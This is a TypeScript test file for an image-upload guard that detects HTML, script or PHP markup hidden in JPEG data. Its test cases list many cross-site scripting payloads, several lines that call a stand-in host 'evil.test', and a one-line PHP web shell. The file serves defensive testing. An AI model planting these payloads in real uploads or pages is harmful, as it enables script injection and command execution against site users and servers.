import { describe, expect, it } from 'vitest';
import { guardUpload } from '../../src/processor/guard/index.js';
import { findMarkup } from '../../src/processor/guard/markup.js';
import {
  jpegWithComment,
  jpegWithExifXmpIcc,
  photoshopXmp,
  realPhotos,
} from '../helpers/input-findings.js';

const LIMITS = {
  maxBytes: 25 * 1024 * 1024,
  allowSvg: false,
  maxMetadataBytes: 64 * 1024 * 1024,
  maxPixels: 100_000_000,
};

/** A deterministic stream of bytes that looks like compressed image data. */
function noise(bytes: number, seed = 14): Buffer {
  const out = Buffer.alloc(bytes);
  let state = seed;
  for (let i = 0; i < bytes; i += 4) {
    // xorshift32
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    out.writeInt32LE(state | 0, Math.min(i, bytes - 4));
  }
  return out;
}

/** `markup` between two stretches of image-like bytes. */
const inNoise = (markup: string) =>
  Buffer.concat([noise(4096, 1), Buffer.from(markup, 'latin1'), noise(4096, 2)]);

describe('the polyglot check (finding 5)', () => {
  it('refuses a JPEG whose comment holds an <img> with an event handler', async () => {
    const jpeg = await jpegWithComment('<img src=x onerror=alert(document.domain)>');
    const refused = guardUpload(jpeg, 'image/jpeg', LIMITS);
    await expect(refused).rejects.toMatchObject({ code: 'SUSPICIOUS_CONTENT' });
    await expect(refused).rejects.toThrow(
      'the file also contains markup (an event handler: "<img src=x onerror=alert(document.domain)>" at byte ',
    );
  });

  it('refuses an <svg onload> in a JPEG comment', async () => {
    await expect(
      guardUpload(await jpegWithComment('<svg onload=alert(1)>'), 'image/jpeg', LIMITS),
    ).rejects.toMatchObject({ code: 'SUSPICIOUS_CONTENT' });
  });

  it.each([
    ['an event handler', '<svg/onload=alert(1)>'],
    ['an event handler', '<IMG SRC=x ONERROR=alert(1)>'],
    ['an event handler', '<img src="x"onerror="alert(1)">'],
    ['an event handler', '<img alt=">" onerror=alert(1) src=x>'],
    ['an event handler', '<body onload="fetch(`//evil.test`)">'],
    ['an event handler', '<details open ontoggle=alert(1)>'],
    ['an event handler', '<x-widget tabindex=1 autofocus onfocus=alert(1)>'],
    ['an event handler', '<video><source onerror = "alert(1)">'],
    // No `>`: a browser closes the tag at the next `>` the image data happens to hold.
    ['an event handler', '<img src=x onerror=alert(1)//'],
    // A quote in text a browser reads as a textarea's or a comment's must not hide what follows.
    ['an event handler', '<textarea><a title="</textarea><img src=x onerror=alert(1)>">'],
    ['an event handler', '<!-- <a x=" --><img src=x onerror=alert(1)>'],
    ['a script URL', '<a href="javascript:alert(1)">click</a>'],
    ['a script URL', '<a href=" &#106;avascript&colon;alert(1)">x</a>'],
    ['a script URL', '<a href="java&#x09;script:alert(1)">x</a>'],
    ['a script URL', '<button formaction=JaVaScRiPt:alert(1)>x</button>'],
    ['a script URL', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
    ['a script', '<script>alert(1)</script>'],
    ['a script', '<SCRIPT src=//evil.test/x.js></SCRIPT>'],
    ['an embedded document', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'],
    ['an embedded object', '<object data=evil.swf>'],
    ['an embedded object', '<embed src=evil.swf>'],
    ['a stylesheet', '<style>body{background:url(//evil.test)}</style>'],
    ['an HTML document', '<!DOCTYPE html><title>x</title>'],
    ['an HTML document', '<html><body>hello</body></html>'],
    ['an HTML directive', '<meta http-equiv="refresh" content="0;url=https://evil.test">'],
    ['an HTML directive', '<base href="https://evil.test/">'],
    ['inline SVG', '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="#x">x</a></svg>'],
    ['PHP code', '<?php system($_GET["c"]); ?>'],
  ])('finds %s in %j', (reason, markup) => {
    const found = findMarkup(inNoise(markup));
    expect(found?.reason, markup).toBe(reason);
    expect(found?.at).toBeGreaterThanOrEqual(4096);
    expect(found?.at).toBeLessThan(4096 + markup.length);
  });

  it('passes XMP (XML: <x:xmpmeta>, <rdf:…>, xmlns, escaped text) and prose with brackets', () => {
    for (const text of [
      photoshopXmp(500),
      'a < b and c > d; 3<4; <3 online = yes',
      '<b>bold</b> <i>italic</i> <p class=x>paragraph</p> <a href="https://example.test">link</a>',
      '<svg>', // a bare <svg> runs nothing; see markup.ts
      '<img src=x onerror>', // a handler with no code
      '</img onerror=alert(1)>', // an end tag has no handlers
    ]) {
      expect(findMarkup(inNoise(text)), text).toBeUndefined();
    }
  });

  it('passes a photo with EXIF, XMP and an ICC profile', async () => {
    const photo = await jpegWithExifXmpIcc();
    expect(findMarkup(photo)).toBeUndefined();
    await expect(guardUpload(photo, 'image/jpeg', LIMITS)).resolves.toMatchObject({ warnings: [] });
  });

  const photos = realPhotos();
  it.skipIf(photos.length === 0)(
    'passes every real photo on this machine (.cache/bench-photos, .cache/sample-photos)',
    () => {
      const found = photos.map(({ name, bytes }) => [name, findMarkup(bytes)?.excerpt]);
      expect(found.filter(([, excerpt]) => excerpt)).toEqual([]);
    },
  );

  it('finds nothing in 64 MB of random bytes (what compressed image data looks like)', () => {
    for (let seed = 1; seed <= 4; seed++)
      expect(findMarkup(noise(16 * 1024 * 1024, seed))).toBeUndefined();
  });

  it('takes linear time on crafted markup-like uploads', () => {
    // Every `<a` starts a candidate tag that runs to the end: read naively, 2 MB of them would
    // take hours. Read as they are, each takes a fraction of a second (a generous bound for a
    // loaded runner).
    for (const unit of ['<a ', '<a x="', '<a =', '<a x=\'<a y="', '<a b=c ']) {
      const bytes = Buffer.from(unit.repeat(Math.floor((2 * 1024 * 1024) / unit.length)), 'latin1');
      const started = performance.now();
      expect(findMarkup(bytes)).toBeUndefined();
      expect(performance.now() - started, unit).toBeLessThan(10_000);
    }
  });
});
